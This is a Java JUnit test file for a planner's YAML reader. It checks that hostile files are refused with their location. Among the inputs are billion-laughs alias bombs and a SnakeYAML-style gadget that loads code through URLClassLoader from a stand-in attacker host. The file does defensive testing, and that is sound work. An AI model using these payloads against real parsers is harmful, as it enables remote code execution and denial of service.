package org.raciplanner.planfile;

import org.junit.jupiter.api.Test;
import org.raciplanner.api.ApiException;
import org.raciplanner.api.Problem;

import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What a hostile YAML file can do to the reader: nothing but be refused, quickly, with where. */
class HostilePlanFilesTest {

    @Test
    void refusesTheBillionLaughsBeforeExpandingIt() {
        StringBuilder bomb = new StringBuilder("a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            String previous = "*" + (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [").append(String.join(", ", List.of(previous, previous, previous,
                    previous, previous, previous, previous, previous, previous))).append("]\n");
        }
        ApiException refused = assertTimeoutPreemptively(Duration.ofSeconds(2),
                () -> assertThrows(ApiException.class, () -> YamlTree.read(bomb.toString())));
        assertEquals(400, refused.status().getCode());
        assertTrue(refused.getMessage().contains("aliases"), refused.getMessage());
    }

    @Test
    void refusesABombThatStaysUnderTheAliasLimitByItsExpansion() {
        String bomb = "l0: &l0 [x, x]\n" + IntStream.rangeClosed(1, 24)
                .mapToObj(i -> "l" + i + ": &l" + i + " [*l" + (i - 1) + ", *l" + (i - 1) + "]").collect(Collectors.joining("\n"));
        ApiException refused = assertTimeoutPreemptively(Duration.ofSeconds(2),
                () -> assertThrows(ApiException.class, () -> YamlTree.read(bomb)));
        assertTrue(refused.getMessage().contains("expands to more than"), refused.getMessage());
    }

    @Test
    void neverBuildsTheObjectAJavaTagNamesAndSaysWhereItStood() {
        String hostile = """
                people:
                  a@acme.example: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/"]]]]
                """;
        ApiException refused = assertThrows(ApiException.class, () -> YamlTree.read(hostile));
        Problem.Issue issue = refused.issues().get(0);
        assertEquals(List.of(2, 19), List.of(issue.line(), issue.column()));
        assertTrue(issue.message().contains("javax.script.ScriptEngineManager") && issue.message().contains("not allowed"), issue.message());
    }

    @Test
    void refusesEveryTagBeyondPlainValuesWithItsPointer() {
        String tagged = """
                people:
                  a@acme.example: !person {name: Ana}
                  b@acme.example: {name: !!binary QW5h, remote: !!bool yes}
                """;
        ApiException refused = assertThrows(ApiException.class, () -> YamlTree.read(tagged));
        assertEquals(List.of("2:19 /people/a@acme.example", "3:26 /people/b@acme.example/name"),
                refused.issues().stream().map(i -> i.line() + ":" + i.column() + " " + i.field()).toList());
    }

    @Test
    void refusesAnAliasThatContainsItself() {
        ApiException refused = assertThrows(ApiException.class, () -> YamlTree.read("people: &p {x: *p}\n"));
        assertTrue(refused.issues().stream().map(Problem.Issue::message).anyMatch(m -> m.contains("contains it")),
                refused.issues().toString());
    }

    @Test
    void refusesDeepNestingAndMoreThanOneDocument() {
        String deep = "[".repeat(YamlTree.MAX_DEPTH + 5) + "]".repeat(YamlTree.MAX_DEPTH + 5);
        assertEquals(400, assertThrows(ApiException.class, () -> YamlTree.read(deep)).status().getCode());
        assertEquals(400, assertThrows(ApiException.class, () -> JsonTree.read(deep)).status().getCode());
        ApiException two = assertThrows(ApiException.class, () -> YamlTree.read("people: {}\n---\npeople: {}\n"));
        assertEquals(2, two.issues().get(0).line(), two.getMessage());
    }

    @Test
    void readsAnHonestAliasAndKeepsEveryValuesPlace() {
        Tree tree = YamlTree.read("people:\n  a@acme.example: &someone {name: Ana, capacityHours: 32.5}\n  b@acme.example: *someone\n");
        Tree.Members people = (Tree.Members) ((Tree.Members) tree).members().get(0).value();
        Tree.Members b = (Tree.Members) people.members().get(1).value();
        Tree.Scalar hours = (Tree.Scalar) b.members().get(1).value();
        assertEquals(new Tree.Scalar(Tree.Type.NUMBER, "32.5", new Tree.Where("/people/b@acme.example/capacityHours", 2, 55)), hours,
                "an alias's values stand where its anchor wrote them, under the pointer of where it is used");
    }
}
